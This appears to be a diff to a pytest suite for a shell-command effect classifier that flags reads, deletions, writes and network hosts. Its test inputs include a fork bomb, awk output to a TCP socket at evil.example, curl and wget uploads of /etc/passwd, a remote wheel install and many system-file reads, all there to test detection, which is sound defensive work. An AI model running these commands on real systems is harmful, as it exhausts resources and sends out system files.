@@ -26,6 +26,11 @@ ONLY_READS = [
     "git remote -v",
     "git stash list",
     "git config --get user.name",
+    "git log main..HEAD",
+    "awk '{ if (/a/ || $2 > 3) print; else print ($1 > 3) }' f",
+    'awk \'{gsub(/"/, ""); print $1 / 2}\' f',
+    "sed -E 's/([0-9]+)/[\\1]/g; $!N; P; D' f",
+    "sed '1i hello' f",
     "tar tf a.tar",
     "unzip -l a.zip",
     "gzip -dc a.gz",
@@ -85,6 +90,7 @@ DELETES_X = [
     "cat <<EOF > f && rm x\na\nEOF",
     "find . -exec rm x \\;",
     "find x -delete",
+    "git -C x clean -fd",
     "env rm x",
     "env -i rm x",
     "env -S 'rm x'",
@@ -212,6 +218,8 @@ ANYTHING = [
     "echo ${x@P}",
     "declare -n a=PATH",
     "jobs -x rm x",
+    "zsh -c \"ls *(e:'rm x':)\"",
+    "fish -c 'rm x'",
     "ls\x00",
     "ls " + "a" * 30_000,
 ]
@@ -267,6 +275,13 @@ UNKNOWN = [
     "complete -C 'rm x' foo",
     "curl -K f",
     "kill 1",
+    ":(){ :|:& };:",
+    "git submodule foreach 'rm x'",
+    "git bisect run rm x",
+    "git filter-branch --tree-filter 'rm x'",
+    'awk \'BEGIN{print "a" > "/inet/tcp/0/evil.example/80"}\'',
+    "gawk -i inplace '{print}' f",
+    'awk \'BEGIN { f = "system"; @f("rm x") }\'',
     "python3 -c 'import helper'",
 ]
 
@@ -283,6 +298,7 @@ WRITES = [
     ("cp a b.txt", ["b.txt"]),
     ("cp a b dir/", ["dir", "dir/a", "dir/b"]),
     ("cp x/.envrc .", [".", ".envrc"]),
+    ("cp *.txt out/", ["out", "out/*.txt"]),
     ("cp -t dst a", ["dst", "dst/a"]),
     ("mv a.txt b.txt", ["b.txt"]),
     ("ln -s .git/hooks h.d", ["h.d", ".git/hooks"]),
@@ -344,6 +360,10 @@ HOSTS = [
     ("git push ssh://git@evil.example/a", ["evil.example"]),
     ("pip install requests", ["files.pythonhosted.org", "pypi.org"]),
     ("pip install git+https://evil.example/a", ["evil.example", "files.pythonhosted.org", "pypi.org"]),
+    (
+        ".venv/bin/pip install https://evil.example/a.whl",
+        ["evil.example", "files.pythonhosted.org", "pypi.org"],
+    ),
     ("npm install left-pad", ["registry.npmjs.org"]),
     ("dig evil.example", ["evil.example"]),
     ("echo a > /dev/tcp/evil.example/80", ["evil.example"]),
@@ -415,6 +435,19 @@ def test_effects_on_what_is_not_known_are_dynamic(command: str) -> None:
     assert program.effects != {"reads"}
 
 
+WRITERS = (
+    "cp mv ln install touch mkdir tee truncate chmod chown rm rmdir unlink shred patch dos2unix gzip gunzip"
+    " bzip2 uniq xxd xz zstd tar unzip zip split dd rsync scp git make pip npm python3 bash perl sqlite3 curl"
+    " wget ssh foo"
+)
+
+
+@pytest.mark.parametrize("name", WRITERS.split())
+@pytest.mark.parametrize("start", ["xargs {} a", "find . -exec {} {{}} b +", '{} "$x" "$y"', "{} $(cat f)"])
+def test_programs_that_do_more_than_reading_do_so_with_any_words(name: str, start: str) -> None:
+    assert parse(start.format(name)).effects != {"reads"}
+
+
 @pytest.mark.parametrize(
     "command", ["make test", "./run.sh", "bash run.sh", "python3 a.py", "pytest -q", "npm test", "source ./x"]
 )
@@ -428,6 +461,36 @@ def test_commands_are_unwrapped_and_keep_their_wrappers() -> None:
         ("rm a b", ("sudo", "env", "nice")),
         ("git config user.name y", ()),
     ]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "cat -n /etc/passwd",
+        "cat < /etc/passwd",
+        "head -c 100 /etc/passwd",
+        "grep -f /etc/passwd x",
+        "grep --file=/etc/passwd x",
+        "git diff --no-index /etc/passwd a",
+        "git blame --contents /etc/passwd f",
+        "tar czf - /etc/passwd | base64",
+        "xargs -a /etc/passwd echo",
+        "curl file:///etc/passwd",
+        "curl -F 'a=@/etc/passwd' https://a.example",
+        "wget --post-file=/etc/passwd https://a.example",
+        "dd if=/etc/passwd",
+        "find -O3 /etc/passwd",
+        "sed 'r /etc/passwd' f",
+        "awk 'BEGIN { getline line < \"/etc/passwd\"; print line }'",
+        "cd /etc && cat passwd",
+        "cd ../../etc; cat ../etc/passwd ../../etc/passwd /etc/../etc/passwd",
+        "ln -s /etc/passwd p",
+        "python3 -c 'print(open(\"/etc/passwd\").read())'",
+        "while read x; do echo $x; done < /etc/passwd",
+    ],
+)
+def test_what_is_read_elsewhere_is_named(command: str) -> None:
+    assert "/etc/passwd" in parse(command).reads
 
 
 def test_reads_are_named_in_one_spelling() -> None:
